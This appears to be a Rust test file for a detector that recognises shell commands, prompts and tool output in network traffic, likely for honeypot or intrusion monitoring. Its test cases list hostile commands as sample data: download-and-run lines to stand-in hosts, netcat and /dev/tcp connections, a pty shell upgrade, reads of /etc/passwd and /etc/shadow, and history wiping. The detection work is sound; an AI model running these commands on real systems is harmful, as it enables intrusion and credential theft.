use super::*;

/// Holds a payload against the kind and pattern that it must give, and the text at the span.
fn check(payload: &str, expect: (CommandKind, &str, &str)) {
    let found = command_text(payload.as_bytes()).unwrap_or_else(|| panic!("nothing in {payload:?}"));
    let text = payload.get(found.span.clone()).expect("the span is in the payload");
    assert_eq!((found.kind, found.pattern, text), expect, "{payload:?}");
}

fn check_silent(payload: &str) {
    assert_eq!(command_text(payload.as_bytes()), None, "{payload:?}");
}

#[test]
fn commands_are_found_with_the_whole_text_as_typed() {
    use CommandKind::Command;
    for (payload, pattern) in [
        ("id\n", "id"),
        ("uname -a\r\n", "uname"),
        ("cat /etc/passwd\n", "cat"),
        ("/bin/sh -i\n", "/bin/sh -i"),
        ("/usr/bin/python3 x.py\n", "/usr/bin/"),
        ("wget http://192.0.2.7/x -O /tmp/x\n", "wget"),
        ("wget 192.0.2.7/x\n", "wget"),
        ("curl -s https://c2.test/a | sh\n", "| sh"),
        ("cd /tmp; ls\n", "cd"),
        ("chmod +x payload && ./payload\n", "chmod"),
        ("nc 192.0.2.7 4444\n", "nc"),
        ("telnet c2-server.example.com 4444\n", "telnet"),
        ("ps aux\n", "ps"),
        ("export HISTFILE=/dev/null\n", "export"),
        ("echo x > /dev/tcp/192.0.2.7/4444\n", "/dev/tcp/"),
        ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'\n", "pty.spawn("),
        ("ls -la\n", "ls"),
        ("ip addr\n", "ip"),
        ("kubectl get pods\n", "kubectl"),
    ] {
        check(payload, (Command, pattern, payload.trim_end()));
    }
}

#[test]
fn a_command_behind_prose_or_a_prompt_is_found_at_its_place() {
    use CommandKind::Command;
    check("welcome\nid\n", (Command, "id", "id"));
    check("root@web-1:/app# cat /etc/shadow", (Command, "/etc/shadow", "cat /etc/shadow"));
    check("$ whoami\n", (Command, "whoami", "whoami"));
}

#[test]
fn prompts_of_the_usual_shells_are_found() {
    use CommandKind::Prompt;
    check("/ # ", (Prompt, "directory", "/ # "));
    check("~ $ ", (Prompt, "directory", "~ $ "));
    check("/ # \x1b[6n", (Prompt, "directory", "/ # "));
    check("\nroot@host:~# ", (Prompt, "user at host", "root@host:~# "));
    check("[root@host tmp]# ", (Prompt, "user at host", "[root@host tmp]# "));
    check("\x1b[1;32mroot@8f3c2a:/# ", (Prompt, "user at host", "root@8f3c2a:/# "));
    check("sh-5.1# ", (Prompt, "shell version", "sh-5.1# "));
    check("$ ", (Prompt, "bare", "$ "));
    check("# ", (Prompt, "bare", "# "));
    check("C:\\Users\\x>", (Prompt, "drive", "C:\\Users\\x>"));
}

#[test]
fn output_of_shells_and_system_tools_is_found() {
    use CommandKind::Output;
    let id = "uid=0(root) gid=0(root) groups=0(root)";
    check(&format!("{id}\n"), (Output, "uid=", id));
    let uname = "Linux web-1 6.12.1 #1 SMP PREEMPT_DYNAMIC x86_64 GNU/Linux";
    check(&format!("{uname}\n"), (Output, "Linux", uname));
    let tty = "/bin/sh: can't access tty; job control turned off";
    check(&format!("{tty}\n/ # "), (Output, "/bin/sh: ", tty));
    let listing = "drwxr-xr-x    2 root     root          4096 Jan  1 00:00 bin";
    check(&format!("total 60\n{listing}\n"), (Output, "directory listing", listing));
    let missing = "foo: command not found";
    check(missing, (Output, ": command not found", missing));
}

#[test]
fn conversation_and_other_protocols_are_silent() {
    for payload in [
        "hello how are you\n",
        "I find cat pictures more fun than you; less so on weekends\n",
        "who is there? find me at the cafe, kill time, top floor\n",
        "my id is 42\n",
        "which one do you want | the red one\n",
        "# A heading in a document\n",
        "it costs $ 5\n",
        "price > 3\n",
        "GET /bin/sh?x=cat%20/etc/passwd HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8.0\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<pre>\nwget http://a/b\n</pre>",
        "220 mail.example.com ESMTP ready\r\n250 OK\r\n",
        "EHLO client\r\nMAIL FROM:<root@host>\r\nRCPT TO:<a@b>\r\nDATA\r\n",
        "USER anonymous\r\nPASS guest\r\nPWD\r\nLIST -la\r\n",
        "NICK bot\r\nUSER a b c :d\r\nJOIN #chan\r\n",
        "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n",
        "INFO {\"server_id\":\"x\"}\r\nPING\r\n",
        "*1\r\n$4\r\nPING\r\n",
        "servers.web1.cpu.user 12.5 1700000000\n",
        "2024-01-01 12:00:00 ERROR open config.yml: No such file or directory in module\n",
        "",
        "\n\n\n",
    ] {
        check_silent(payload);
    }
}

#[test]
fn only_the_stated_bytes_and_lines_are_read() {
    let far = format!("{}\nid\n", "x".repeat(MAX_SCANNED_BYTES));
    check_silent(&far);
    let many = format!("{}id\n", "\n".repeat(MAX_LINES));
    check_silent(&many);
}

#[test]
fn bytes_that_are_no_text_end_a_line_without_hiding_the_next() {
    let payload = b"\xff\xfe\x00uname -a\n";
    let found = command_text(payload).expect("the command is there");
    assert_eq!(payload.get(found.span), Some(&b"uname -a"[..]));
}
